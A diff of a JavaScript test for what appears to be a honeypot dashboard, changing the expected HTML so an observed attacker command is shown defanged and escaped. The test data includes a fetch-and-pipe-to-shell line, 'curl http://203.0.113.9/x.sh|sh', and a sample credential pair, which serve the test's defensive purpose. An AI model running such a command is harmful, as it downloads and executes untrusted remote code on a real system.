@@ -60,7 +60,7 @@ test("alerts, new-this-week counts and lists", () => {
   assert.is(run("newcount", W, "ports"), "0");
   assert.is(run("newlist", W, "ports", "ja"), "", "nothing new, no list");
   const list = run("newlist", W, "commands", "ja");
-  assert.is(list, '<ul class="hw-new hw-new-commands"><li><code class="untrusted">curl http://203.0.113.9/x.sh|sh &lt;script&gt;&#123;% raw %&#125;</code> <span class="hw-count">(7件)</span></li></ul>');
+  assert.is(list, '<ul class="hw-new hw-new-commands"><li><code class="untrusted">curl hxxp://203[.]0[.]113[.]9/x.sh|sh &lt;script&gt;&#123;% raw %&#125;</code> <span class="hw-count">(7件)</span></li></ul>');
   assert.match(run("newlist", W, "credentials", "en"), '<code class="untrusted">system</code> / <code class="untrusted">Passw0rd!</code>');
 });
 
